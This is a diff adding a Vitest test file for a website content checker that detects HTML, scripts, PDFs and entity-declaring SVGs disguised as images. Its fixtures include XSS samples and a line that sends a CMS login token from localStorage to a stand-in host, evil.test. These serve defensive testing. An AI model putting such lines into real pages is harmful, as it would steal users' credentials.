@@ -1,0 +1,146 @@
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { pictureFormatOf, pictureProblem, sniffPicture } from "../../src/lib/content/media";
+import { formatProblem } from "../../src/lib/content/problems";
+import { checkSite } from "../../src/lib/content/site-check";
+
+const bytes = (text: string) => new TextEncoder().encode(text);
+const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
+const JPEG = new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16]);
+const WEBP = bytes("RIFF\0\0\0\0WEBPVP8 ");
+const AVIF = bytes("\0\0\0\x1cftypavif\0\0\0\0");
+
+describe("sniffPicture", () => {
+  it.each([
+    ["a PNG", PNG, "png"],
+    ["a JPEG", JPEG, "jpeg"],
+    ["a WebP", WEBP, "webp"],
+    ["an AVIF", AVIF, "avif"],
+    ["an SVG", bytes('<svg xmlns="http://www.w3.org/2000/svg"/>'), "svg"],
+    [
+      "an Illustrator SVG",
+      bytes(
+        '\uFEFF<?xml version="1.0"?>\n<!-- Generator: Adobe Illustrator -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg version="1.1">',
+      ),
+      "svg",
+    ],
+    ["a prefixed SVG root", bytes('<s:svg xmlns:s="http://www.w3.org/2000/svg">'), "svg"],
+    ["a web page", bytes("<!DOCTYPE html><html><script>alert(1)</script>"), "html"],
+    ["a bare web page", bytes("<html><body onload=alert(1)>"), "html"],
+    ["a script", bytes("fetch('https://evil.test/?' + localStorage['decap-cms-user'])"), "text"],
+    ["an XML feed", bytes('<?xml version="1.0"?><rss version="2.0">'), "xml"],
+    ["an SVG that declares entities", bytes('<!DOCTYPE svg [<!ENTITY x "<script>">]><svg>'), "xml"],
+    ["a PDF", bytes("%PDF-1.7\n"), "pdf"],
+    ["a zip", new Uint8Array([0x50, 0x4b, 3, 4, 0, 0]), "binary"],
+  ])("tells %s", (_, head, format) => expect(sniffPicture(head)).toBe(format));
+});
+
+describe("pictureFormatOf", () => {
+  it("knows picture endings in any case and nothing else", () => {
+    expect(pictureFormatOf("./images/Desk.JPG")).toBe("jpeg");
+    expect(pictureFormatOf("content/brand/logo.svg")).toBe("svg");
+    for (const path of ["offer.html", "a.js", "feed.xml", "menu.pdf", "logo.svg.html", "noending", "a.gif"])
+      expect(pictureFormatOf(path), path).toBeUndefined();
+  });
+});
+
+describe("pictureProblem", () => {
+  const where = { file: "content/posts/a.mdx", line: 4 };
+  const check = (value: string, path: string, head?: Uint8Array) =>
+    pictureProblem({ field: "heroImage", value, path, head }, where);
+
+  it("refuses a file that is not a picture by its name, naming the file, the field and the fix", () => {
+    const found = check("./images/offer.html", "content/posts/images/offer.html");
+    expect(found && formatProblem(found)).toBe(
+      'content/posts/a.mdx:4  heroImage "./images/offer.html" is not a picture: the site does not show .html files as images. Use a photo or drawing saved as .jpg, .jpeg, .png, .webp, .avif or .svg, e.g. ./images/desk.jpg. A web page, script, PDF or document cannot be an image: link to it instead, or ask a developer.',
+    );
+  });
+
+  it("refuses a web page named .svg or .jpg, and an SVG named .png", () => {
+    const page = check("./images/logo.svg", "content/posts/images/logo.svg", bytes("<!DOCTYPE html><html>"));
+    expect(page?.what).toBe(
+      'heroImage "./images/logo.svg": content/posts/images/logo.svg is named .svg but holds a web page (HTML).',
+    );
+    expect(page?.fix).toMatch(/export it again as a real \.svg file/);
+    expect(check("./a.jpg", "content/posts/a.jpg", bytes("%PDF-1.4"))?.what).toContain(
+      "holds a PDF document",
+    );
+    expect(check("./a.png", "content/posts/a.png", bytes("<svg>"))?.what).toContain("holds an SVG drawing");
+  });
+
+  it("accepts pictures, a photo saved under another photo's ending, and a name alone when the bytes are not at hand", () => {
+    expect(check("./a.png", "content/posts/a.png", PNG)).toBeUndefined();
+    expect(check("./a.jpg", "content/posts/a.jpg", PNG)).toBeUndefined();
+    expect(
+      check("./a.svg", "content/posts/a.svg", bytes('<svg xmlns="http://www.w3.org/2000/svg"/>')),
+    ).toBeUndefined();
+    expect(check("./a.webp", "content/posts/a.webp")).toBeUndefined();
+  });
+});
+
+describe("the whole-site check refuses what is not a picture", () => {
+  const FIELDS = `title: "How to sit well at a desk"
+description: "What to change at your desk so your lower back hurts less, in five small steps."
+pubDate: 2026-03-14
+author: clinical-team
+tags: [posture]`;
+  const HTML = bytes("<!DOCTYPE html><html><script>alert(localStorage['decap-cms-user'])</script>");
+  const heads: Record<string, Uint8Array> = {
+    "content/posts/images/offer.html": HTML,
+    "content/posts/images/logo.svg": HTML,
+    "content/posts/images/desk.jpg": JPEG,
+    "content/brand/logo.svg": HTML,
+  };
+  const settings = readFileSync(join(import.meta.dirname, "../../content/settings.yaml"), "utf8");
+  const run = (post: string, { logo = false } = {}) =>
+    checkSite(
+      {
+        posts: [{ file: "content/posts/x.mdx", text: `---\n${post}\n---\n` }],
+        massageTypes: [],
+        team: [],
+        testimonials: [],
+        pages: [],
+        copy: [],
+        authors: [
+          {
+            file: "content/authors/clinical-team.yaml",
+            text: "name: Team\nrole: Therapists\nbio: Licensed massage therapists.",
+          },
+        ],
+        settings: logo
+          ? {
+              file: "content/settings.yaml",
+              text: `${settings}\nbrand:\n  logo: ./brand/logo.svg\n  logoAlt: Still Point\n`,
+            }
+          : undefined,
+        files: new Set(Object.keys(heads)),
+        readHead: (file) => heads[file],
+        staticRoutes: ["/"],
+      },
+      { today: "2026-06-01", includeDrafts: false },
+    )
+      .filter((found) => /picture/.test(`${found.what} ${found.fix}`))
+      .map((found) => `${found.file}:${found.line ?? ""} ${found.field}`);
+
+  it("in a post's hero image, by its name and by its content", () => {
+    expect(run(`${FIELDS}\nheroImage: ./images/offer.html\nheroAlt: "An offer"`)).toEqual([
+      "content/posts/x.mdx:7 heroImage",
+    ]);
+    expect(run(`${FIELDS}\nheroImage: ./images/logo.svg\nheroAlt: "A logo"`)).toEqual([
+      "content/posts/x.mdx:7 heroImage",
+    ]);
+    expect(run(`${FIELDS}\nheroImage: ./images/desk.jpg\nheroAlt: "A desk"`)).toEqual([]);
+  });
+
+  it("in a post's body: a Markdown image and a <Figure>", () => {
+    const body = `${FIELDS}\n---\n\n![An offer](./images/offer.html)\n\n<Figure src="posts/images/logo.svg" alt="A logo" />\n\n![A desk](./images/desk.jpg)`;
+    expect(run(body).sort()).toEqual(["content/posts/x.mdx:11 Figure src", "content/posts/x.mdx:9 image"]);
+  });
+
+  it("in the settings' logo", () => {
+    expect(run(FIELDS, { logo: true })).toEqual([
+      expect.stringMatching(/^content\/settings\.yaml:\d+ brand\.logo$/),
+    ]);
+  });
+});
